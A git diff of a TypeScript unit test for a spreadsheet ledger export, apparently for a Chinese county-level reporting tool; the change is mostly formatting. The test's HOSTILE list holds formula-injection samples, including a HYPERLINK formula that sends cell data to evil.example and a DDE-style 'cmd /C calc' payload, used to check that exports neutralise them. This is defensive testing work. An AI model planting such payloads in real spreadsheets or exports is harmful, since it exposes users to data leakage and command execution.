@@ -4,10 +4,14 @@ import { describe, expect, it } from 'vitest';
 import { sheetToCsv, writeWorkbook, type LedgerSheet } from '../../src/features/digest/ledger.ts';
 
 // Texts officials type (存在问题) that a spreadsheet would otherwise run as formulas.
-const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
+const HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '\r=1+1'];
 const sheet: LedgerSheet = {
   name: '问题',
-  columns: [{ header: '县区', kind: 'text' }, { header: '存在问题', kind: 'text' }, { header: '本周支出', kind: 'wan' }],
+  columns: [
+    { header: '县区', kind: 'text' },
+    { header: '存在问题', kind: 'text' },
+    { header: '本周支出', kind: 'wan' },
+  ],
   rows: [...HOSTILE.map((t) => ['卓尼县', t, -12.5]), ['迭部县', '资金拨付-进度慢', 3]],
 };
 
